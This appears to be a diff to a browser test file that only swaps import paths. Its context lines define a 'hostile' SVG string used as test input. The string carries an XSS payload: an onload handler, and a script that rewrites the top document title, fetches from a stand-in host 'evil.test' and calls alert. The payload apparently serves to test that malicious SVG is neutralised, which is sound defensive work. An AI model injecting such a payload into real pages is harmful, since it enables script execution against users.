@@ -3,9 +3,9 @@ import type { Browser } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { signInText } from "../../src/runtime/mail/mail-body.js";
 import { droppedValues } from "../../src/runtime/settings/dropped-values.js";
-import { origin } from "../oauth/drive.js";
+import { origin } from "../support/browser.js";
 import { openExhibit } from "./gallery.js";
-import { launchBrowser } from "../support/browser.js";
+import { launchBrowser } from "../support/chromium.js";
 
 const hostile = `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40" onload="top.document.title='owned'">
   <script>top.document.title = "owned"; fetch("https://evil.test/script"); alert(1)</script>
